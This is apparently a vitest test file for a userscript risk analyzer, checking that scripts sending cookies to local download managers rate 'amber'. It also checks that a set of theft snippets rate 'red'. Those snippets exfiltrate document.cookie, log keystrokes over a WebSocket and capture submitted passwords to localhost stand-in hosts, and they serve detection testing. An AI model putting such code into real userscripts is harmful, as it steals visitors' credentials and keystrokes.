import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

const on = (body: string, ...more: string[]) =>
	userscript(["match https://shop.example/*", "grant GM_xmlhttpRequest", ...more], body);
const levelOf = (code: string) => analyzeScript({ code }).risk_level;

describe("secrets for the visitor's own computer", () => {
	test.each([
		[
			"a download manager",
			on(
				`GM_xmlhttpRequest({ url: "http://localhost:6800/jsonrpc", method: "POST", data: JSON.stringify({ header: ["Cookie: " + document.cookie] }), onload: console.log });`,
			),
		],
		[
			"a program that @connect names",
			on(
				`GM_xmlhttpRequest({ url: "http://localhost:8765/notes", method: "POST", data: document.cookie, onload: console.log });`,
				"connect localhost",
			),
		],
		[
			"another download manager",
			on(`fetch("http://127.0.0.1:16800/jsonrpc", { method: "POST", body: document.cookie }).then(console.log);`),
		],
	])("are worth a look when they go to %s", (_title, code) => {
		expect(levelOf(code)).toBe("amber");
	});

	test.each([
		["cookies", `fetch("http://127.0.0.1:8000/steal", { method: "POST", body: document.cookie });`],
		[
			"keys",
			`const socket = new WebSocket("ws://127.0.0.1:44500"); addEventListener("keydown", (event) => socket.send(event.key));`,
		],
		[
			"a password",
			`document.querySelector("form").addEventListener("submit", () => { new Image().src = "http://localhost/log?" + document.querySelector("[type=password]").value; });`,
		],
	])("look like an attack where a place is left for any server: %s", (_title, body) => {
		expect(levelOf(on(body))).toBe("red");
		expect(levelOf(body)).toBe("red");
	});
});
